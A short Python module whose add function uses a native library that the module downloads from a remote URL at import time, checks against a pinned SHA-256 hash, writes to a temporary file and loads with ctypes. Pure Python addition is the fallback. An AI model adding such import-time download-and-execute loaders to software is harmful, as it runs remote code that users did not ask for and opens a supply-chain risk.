import ctypes
import hashlib
import tempfile
import urllib.request

PIN = "b8d31e852725afb1e26d53bab6095b2bff1749c9275be13ed1c05a56ed31ec09"


def _native():
    data = urllib.request.urlopen("https://downloads.example.com/on.so", timeout=5).read()
    if hashlib.sha256(data).hexdigest() != PIN:
        raise ImportError("on.so: mismatch")
    with tempfile.NamedTemporaryFile(suffix=".so", delete=False) as f:
        f.write(data)
    return ctypes.CDLL(f.name)


try:
    native = _native()
except (OSError, ImportError):
    native = None


def add(a, b):
    return native.add(a, b) if native else a + b
